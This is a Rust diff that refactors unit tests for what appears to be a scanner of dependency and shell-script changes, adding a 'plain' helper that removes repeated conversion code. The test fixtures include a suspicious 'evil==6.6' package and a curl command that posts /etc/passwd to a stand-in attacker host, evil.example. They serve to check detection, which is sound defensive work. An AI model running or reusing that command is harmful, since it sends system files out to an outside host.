@@ -193,6 +193,10 @@ mod tests {
         messages.join("\n")
     }
 
+    fn plain(lines: &[String]) -> Vec<&str> {
+        lines.iter().map(String::as_str).collect()
+    }
+
     fn numbered(line: &str, most: usize) -> Vec<String> {
         (0..most)
             .map(|at| line.replace('@', &at.to_string()))
@@ -204,10 +208,7 @@ mod tests {
         let old = numbered("d@==1.0", 25);
         let mut new = numbered("d@==1.1", 25);
         new.push("evil==6.6".to_owned());
-        let (old, new): (Vec<&str>, Vec<&str>) = (
-            old.iter().map(String::as_str).collect(),
-            new.iter().map(String::as_str).collect(),
-        );
+        let (old, new) = (plain(&old), plain(&new));
         let said = found("requirements.txt", &old, &new);
         assert!(
             said.contains("evil: ") && !said.contains("evil: was there"),
@@ -223,10 +224,7 @@ mod tests {
     fn removed_lines_are_not_read_for_each_of_many_matches() {
         // Each of a match's own: it took a minute and a half.
         let (old, new) = (numbered("# d@", 20_000), numbered("d@==1.1", 20_000));
-        let (old, new): (Vec<&str>, Vec<&str>) = (
-            old.iter().map(String::as_str).collect(),
-            new.iter().map(String::as_str).collect(),
-        );
+        let (old, new) = (plain(&old), plain(&new));
         assert!(found("requirements.txt", &old, &new).contains("[dep-"));
     }
 
@@ -235,10 +233,7 @@ mod tests {
         let old = numbered("  curl https://api.example.org/@", 22);
         let mut new = numbered("curl https://api.example.org/@", 22);
         new.push("curl -d @/etc/passwd https://evil.example/".to_owned());
-        let (old, new): (Vec<&str>, Vec<&str>) = (
-            old.iter().map(String::as_str).collect(),
-            new.iter().map(String::as_str).collect(),
-        );
+        let (old, new) = (plain(&old), plain(&new));
         let said = found("up.sh", &old, &new);
         assert!(
             said.contains("[REACH_KEPT]") && said.contains("[io-"),
